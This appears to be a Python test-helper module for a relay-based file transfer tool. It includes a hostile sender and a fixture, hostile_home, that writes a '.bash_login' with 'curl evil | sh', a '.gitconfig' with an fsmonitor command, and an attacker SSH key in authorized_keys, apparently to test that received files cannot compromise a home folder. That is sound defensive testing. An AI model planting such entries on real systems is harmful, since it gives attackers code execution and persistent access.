"""Test peers that speak the protocol directly: a raw relay client, a room on a
relay at a loopback port 0, and a hostile sender that sends what an honest one never would."""

from __future__ import annotations

import asyncio
import hashlib
import secrets
from pathlib import Path

from websockets.asyncio.client import connect
from websockets.exceptions import ConnectionClosed

from xfer.protocol import (
    MAX_BINARY_FRAME,
    PROTOCOL_VERSION,
    Accept,
    FileEnd,
    FileInfo,
    FileStart,
    Hello,
    Offer,
    PeerJoined,
    Reject,
    encode_chunk,
    parse_message,
    serialize,
)
from xfer.protocol.guard import Guard
from xfer.protocol.words import SpokenCode, new_code
from xfer.relay import RelayLimits, RelayServer, bind_socket
from xfer.transfer.connection import open_room
from xfer.transfer.receiver import Receiver
from xfer.transfer.secure import SecureLink


def fresh_nameplate() -> str:
    """A room's nameplate that no other test of the run picks (by chance: 1 in 900,000)."""
    return str(secrets.randbelow(900_000) + 100_000)


async def secure(inner, role: str, code: SpokenCode, name: str | None = None, emit=None, runs=None):
    """``inner`` (a link that joined) with protocol 2.0's keys, as ``xfer`` makes them
    (``runs``: shared by the connections of one run, as ``xfer``'s session shares it)."""
    side = "sender" if role == "sender" else "receiver"
    return await SecureLink.open(inner, Guard(side, name or role, code, runs=runs), emit or (lambda *a, **k: None))


class Relay:
    def __init__(self, limits: RelayLimits | None = None):
        self.server = RelayServer(bind_socket("127.0.0.1", 0), limits=limits)

    @property
    def url(self) -> str:
        return f"ws://127.0.0.1:{self.server.port}/ws"

    async def __aenter__(self):
        await self.server.start()
        return self

    async def __aexit__(self, *exc):
        await self.server.stop()

    async def raw(self):
        return await connect(self.url, compression=None, max_size=MAX_BINARY_FRAME)

    async def join(self, room: str, role: str = "peer", name: str = "p", create: bool = False):
        ws = await self.raw()
        await ws.send(serialize(Hello(version=PROTOCOL_VERSION, room=room, role=role, name=name, create=create)))
        reply = parse_message(await asyncio.wait_for(ws.recv(), 5))
        return ws, reply


async def recv_message(ws, timeout: float = 5):
    return parse_message(await asyncio.wait_for(ws.recv(), timeout))


async def closed_with(ws, timeout: float = 5) -> int:
    try:
        while True:
            await asyncio.wait_for(ws.recv(), timeout)
    except ConnectionClosed as exc:
        return exc.rcvd.code if exc.rcvd else 1006


class Events(list):
    def __call__(self, event, **fields):
        self.append((event, fields))

    def named(self, name):
        return [f for e, f in self if e == name]


async def yes(_event):
    return True


async def no(_event):
    return False


class Room:
    """A relay on a loopback port 0 and a fresh room in it; ``join`` gives a link with
    protocol 2.0's keys (the spoken code ``code``), as ``xfer`` makes them."""

    async def __aenter__(self):
        self.server = RelayServer(bind_socket("127.0.0.1", 0))
        await self.server.start()
        self.url = f"ws://127.0.0.1:{self.server.port}/ws"
        self.id = fresh_nameplate()
        self.code = new_code(int(self.id))
        self.created = False
        return self

    async def __aexit__(self, *exc):
        await self.server.stop()

    async def join(self, role, runs=None):
        create = not self.created
        self.created = True
        inner = await open_room(self.url, self.id, role=role, name="", create=create)
        return await secure(inner, role, self.code, runs=runs)


async def next_of(conn, kind, timeout=5):
    """The next message of ``kind`` (skipping membership news)."""
    while True:
        item = await asyncio.wait_for(conn.recv(), timeout)
        if isinstance(item, kind):
            return item


def listing(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


class HostileSender:
    """Speaks the protocol directly, to send what an honest sender never would."""

    def __init__(self, room):
        self.room = room

    async def offer(self, files, receiver_folder, decide=yes, **kw):
        self.conn = await self.room.join("sender")
        self.recv_conn = await self.room.join("receiver")
        self.events = Events()
        self.receiver = Receiver(self.recv_conn, receiver_folder, self.events, decide, **kw)
        self.task = asyncio.create_task(self.receiver.run())
        await next_of(self.conn, PeerJoined) if not self.conn.peers else None
        self.to = next(iter(self.conn.peers))
        self.transfer = 77
        await self.conn.send(Offer(to=self.to, transfer=77, files=tuple(FileInfo(name=n, size=s) for n, s in files)))
        return await next_of(self.conn, (Accept, Reject))

    async def start(self, index):
        await self.conn.send(FileStart(to=self.to, transfer=77, index=index))

    async def chunk(self, index, offset, data):
        await self.conn.send_frame(encode_chunk(self.conn.peer_id, self.to, 77, index, offset, data))

    async def end(self, index, size, sha):
        await self.conn.send(FileEnd(to=self.to, transfer=77, index=index, size=size, sha256=sha))

    async def outcome(self):
        try:
            return await asyncio.wait_for(self.task, 10)
        except Exception as exc:
            return exc


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def plant_partial(folder: Path, src: Path, data: bytes, *, with_state: bool = True):
    """Leave a partial file of ``src`` (and its state) as an interrupted receive would."""
    from xfer.transfer import store

    st = src.stat()
    slot = store.slot_for(folder, FileInfo(name=src.name, size=st.st_size, mtime=st.st_mtime), [src.name])
    if with_state:
        store.write_state(slot)
    slot.partial.write_bytes(data)
    return slot


def hostile_home(tmp_path: Path) -> list[str]:
    """25 photos, then what runs code or grants access in a home folder."""
    src = tmp_path / "src"
    (src / ".ssh").mkdir(parents=True)
    for i in range(25):
        (src / f"photo{i:02}.jpg").write_bytes(b"jpeg %d" % i)
    (src / ".bash_login").write_text("curl evil | sh\n")
    (src / ".gitconfig").write_text("[core]\n\tfsmonitor = evil\n")
    (src / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA evil\n")
    return [f"photo{i:02}.jpg" for i in range(25)] + [".bash_login", ".gitconfig", ".ssh"]
